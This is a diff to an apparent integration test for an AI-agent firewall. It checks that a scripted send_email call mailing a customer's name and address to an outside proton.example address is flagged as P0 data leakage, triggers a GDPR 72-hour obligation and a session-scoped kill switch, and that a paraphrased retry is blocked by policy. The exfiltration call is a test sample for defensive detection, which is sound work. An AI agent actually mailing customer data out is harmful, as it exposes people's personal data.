@@ -112,10 +112,10 @@ def test_customer_data_mailed_outside_is_data_leakage_with_a_gdpr_clock(fl: Fire
     tools = [tool("send_email", to="string", subject="string", body="string"), tool("lookup_customer", email="string")]
     c = client(fl)
 
-    def send(to: str, body: str) -> object:
+    def send(to: str, body: str, session: str = "inbox-3") -> object:
         return c.chat.completions.with_raw_response.create(
             model="gpt-4o-mini", messages=[{"role": "user", "content": "Summarise my inbox."}], tools=tools,  # type: ignore[arg-type]
-            extra_headers={**headers, **scripted(tool_name="send_email", arguments={
+            extra_headers={**headers, "X-Fireline-Session": session, **scripted(tool_name="send_email", arguments={
                 "to": to, "subject": "Report", "body": body})})
 
     internal = send("ops@acme.example", "Weekly summary: 14 tickets closed.")
@@ -129,11 +129,20 @@ def test_customer_data_mailed_outside_is_data_leakage_with_a_gdpr_clock(fl: Fire
     assert (inc["type"], inc["severity"]) == ("data_leakage", "P0")
     assert parse_time(inc["detected_at"]) - first_bad <= timedelta(seconds=1)
 
-    # A paraphrased second attempt to another outside address is stopped too: by the containment
-    # the incident put in place, or by the policy (no learned baseline to blind it).
-    again = send("Mr. Collector <backup-team@proton.example>", "As requested, the list: John Poe, john.poe@yahoo.com")
+    # Containment is scoped to the incident's session: that session now gets the fallback...
+    inc = wait_incident(fl, lambda i: i["id"] == inc["id"] and i["contained_at"] is not None)
+    with fl.client("viewer") as http:
+        controls = http.get("/api/v1/controls", params={"incident_id": inc["id"]}).json()["controls"]
+    assert [(x["kind"], x["scope"]) for x in controls] == [("kill_switch", {"app": "mail-agent", "session": "inbox-3"})]
+    same = send("ops@acme.example", "hello")
+    assert not same.parse().choices[0].message.tool_calls  # type: ignore[attr-defined]
+    assert controls[0]["id"] in same.headers["x-fireline-contained"]  # type: ignore[attr-defined]
+    # ...and a paraphrased second attempt from another session is caught by the policy (no learned
+    # baseline to blind it), linked to the same incident.
+    again = send("Mr. Collector <backup-team@proton.example>", "As requested, the list: John Poe, john.poe@yahoo.com",
+                 session="inbox-4")
     assert not again.parse().choices[0].message.tool_calls  # type: ignore[attr-defined]
-    assert again.headers["x-fireline-contained"]  # type: ignore[attr-defined]
+    assert "policy:mail-egress" in again.headers["x-fireline-contained"]  # type: ignore[attr-defined]
 
     call = stored(fl, leak.headers["x-fireline-call-id"])  # type: ignore[attr-defined]
     kinds = {(f["detector"], f["kind"], f["entity"]) for f in call["findings"]}
@@ -145,4 +154,6 @@ def test_customer_data_mailed_outside_is_data_leakage_with_a_gdpr_clock(fl: Fire
             return list(http.get(f"/api/v1/incidents/{inc['id']}/obligations").json()["obligations"])
     art33 = wait_for(lambda: [o for o in obligations() if o["kind"] == "gdpr_art33"])[0]
     assert parse_time(str(art33["deadline"])) - parse_time(inc["detected_at"]) == timedelta(hours=72)
-    assert inc["contained_at"] or wait_incident(fl, lambda i: i["id"] == inc["id"] and i["contained_at"])
+    again_id = again.headers["x-fireline-call-id"]  # type: ignore[attr-defined]
+    assert "policy:mail-egress" in names(stored(fl, again_id))
+    wait_incident(fl, lambda i: i["id"] == inc["id"] and again_id in i["linked_calls"])
